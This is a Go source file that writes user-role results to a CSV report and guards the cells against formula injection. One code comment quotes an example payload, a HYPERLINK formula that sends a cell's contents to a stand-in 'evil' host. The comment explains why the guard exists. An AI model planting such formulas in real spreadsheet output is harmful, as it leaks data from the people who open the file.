package report

import (
	"encoding/csv"
	"io"
	"strconv"

	"github.com/gocarina/gocsv"
)

// CSVHeader is the header row of a CSV report: the result fields of the JSON
// report, in the same order.
var CSVHeader = []string{
	"user_id", "user_email", "organization_id", "role_id", "role_name",
	"status", "apply_result", "http_status", "attempts", "error", "lines", "reason",
}

// csvRow is one result as the CSV report writes it: every cell already a
// string, so gocsv only lays them out (and the formula guard is applied
// once, here, not left to a type's String method).
type csvRow struct {
	UserID         string `csv:"user_id"`
	UserEmail      string `csv:"user_email"`
	OrganizationID string `csv:"organization_id"`
	RoleID         string `csv:"role_id"`
	RoleName       string `csv:"role_name"`
	Status         string `csv:"status"`
	ApplyResult    string `csv:"apply_result"`
	HTTPStatus     string `csv:"http_status"`
	Attempts       string `csv:"attempts"`
	Error          string `csv:"error"`
	Lines          string `csv:"lines"`
	Reason         string `csv:"reason"`
}

// csvBatch bounds the rows converted before gocsv writes them, so a
// million-result report is never copied whole.
const csvBatch = 4096

// WriteCSV writes one row per result under CSVHeader. Lines are joined with
// ";"; an http_status of 0 (nothing was sent) is left empty; a multi-line
// reason is kept as is (quoted). Each call has its own csv.Writer: gocsv's
// package-level writer settings are never touched.
func WriteCSV(w io.Writer, r *Report) error {
	out := gocsv.NewSafeCSVWriter(csv.NewWriter(w))
	batch := make([]csvRow, 0, min(csvBatch, r.Len()))
	header := true
	flush := func() error {
		var err error
		if header {
			err = gocsv.MarshalCSV(&batch, out)
		} else {
			err = gocsv.MarshalCSVWithoutHeaders(&batch, out)
		}
		header = false
		batch = batch[:0]
		return err
	}
	for res := range r.Rows() {
		batch = append(batch, toCSVRow(res))
		if len(batch) == csvBatch {
			if err := flush(); err != nil {
				return err
			}
		}
	}
	if len(batch) > 0 || header {
		return flush()
	}
	return nil
}

func toCSVRow(res *Result) csvRow {
	httpStatus := ""
	if res.HTTPStatus != 0 {
		httpStatus = strconv.Itoa(res.HTTPStatus)
	}
	return csvRow{
		UserID:         spreadsheetSafe(res.UserID),
		UserEmail:      spreadsheetSafe(res.UserEmail),
		OrganizationID: spreadsheetSafe(res.OrganizationID),
		RoleID:         spreadsheetSafe(res.RoleID),
		RoleName:       spreadsheetSafe(res.RoleName),
		Status:         spreadsheetSafe(string(res.Status)),
		ApplyResult:    string(res.Status.ApplyResult()),
		HTTPStatus:     httpStatus,
		Attempts:       strconv.Itoa(res.Attempts),
		Error:          spreadsheetSafe(res.Error),
		Lines:          joinInts(res.Lines, ";"),
		Reason:         spreadsheetSafe(res.Reason),
	}
}

// spreadsheetSafe defuses CSV (formula) injection. Auditors open these reports
// in Excel, LibreOffice or Google Sheets, which run a cell starting with =, +,
// -, @ (or a tab or carriage return before one) as a formula — and role names,
// reasons and error messages come from input files and API responses that an
// attacker may shape, e.g. a reason of `=HYPERLINK("https://evil/?"&A2,"x")`.
// A leading single quote makes the spreadsheet treat the cell as text, as
// OWASP recommends. Ids never start with these characters, so they read back
// unchanged.
func spreadsheetSafe(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + cell
	}
	return cell
}
